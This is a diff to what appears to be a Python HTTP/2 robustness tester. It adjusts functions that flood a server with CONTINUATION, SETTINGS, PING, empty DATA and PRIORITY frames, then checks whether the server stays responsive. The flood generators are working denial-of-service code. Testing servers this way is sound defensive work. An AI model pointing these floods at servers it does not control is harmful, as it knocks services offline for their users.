@@ -24,8 +24,9 @@ from hyperframe.frame import (
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 #: How long an answer may take on a busy machine.
 PATIENCE = 60
-#: What a server that answers floods is sent at most, in bytes.
+#: What a server is sent at most of a flood, in bytes: of one that it has to answer more than all buffers of the kernel hold.
 FLOOD = 24 << 20
+ANSWERED = 96 << 20
 
 
 class Connection:
@@ -60,11 +61,11 @@ class Connection:
         except OSError:
             return False
 
-    def flood(self, piece):
-        """Sends a piece again and again and reads nothing, until it is held up, the server is gone, or it has taken FLOOD."""
-        self.socket.settimeout(3)
+    def flood(self, piece, most, patience):
+        """Sends a piece again and again and reads nothing, until it is held up, the server is gone, or it has taken so much."""
+        self.socket.settimeout(patience)
         end, sent = None, 0
-        while end is None and sent < FLOOD:
+        while end is None and sent < most:
             try:
                 self.socket.sendall(piece)
                 sent += len(piece)
@@ -256,13 +257,14 @@ PROTOCOL = {
 
 # Floods: as fast as they are taken, and nothing is read.
 
-def flooding(piece, setup=lambda c: b""):
+def flooding(piece, setup=lambda c: b"", answered=False):
     """Where all of it was taken, the connection has to answer a request after it."""
     def attack(options):
-        connection = Connection(options)
+        connection = Connection(options, buffer=4096 if answered else None)
         connection.send(setup(connection))
         made = piece(connection)
-        connection.flood((made.serialize() if isinstance(made, Frame) else made) * 100)
+        most, patience = (ANSWERED, 5) if answered else (FLOOD, PATIENCE)
+        connection.flood((made.serialize() if isinstance(made, Frame) else made) * 100, most, patience)
         if connection.seen["flood"] == "held up":
             return connection.seen
         connection.send(connection.ask(3))
@@ -296,8 +298,8 @@ FLOODS = {
     "continuation-flood": flooding(
         lambda c: ContinuationFrame(1, data=b"\0\1x" + b"\x7f\xa1\x1e" + b"v" * 4000), lambda c: HeadersFrame(1, data=c.block())),
     "continuation-empty": flooding(lambda c: ContinuationFrame(1), lambda c: HeadersFrame(1, data=c.block())),
-    "settings-flood": flooding(lambda c: SettingsFrame(settings={4: 65535})),
-    "ping-flood": flooding(lambda c: PingFrame(opaque_data=b"8 bytes.")),
+    "settings-flood": flooding(lambda c: SettingsFrame(settings={4: 65535}), answered=True),
+    "ping-flood": flooding(lambda c: PingFrame(opaque_data=b"8 bytes."), answered=True),
     "empty-data-flood": flooding(
         lambda c: DataFrame(1), lambda c: c.ask(end=False, method="POST", path="/orin-jp6.2/resolve")),
     "priority-flood": flooding(lambda c: PriorityFrame(1, depends_on=3)),
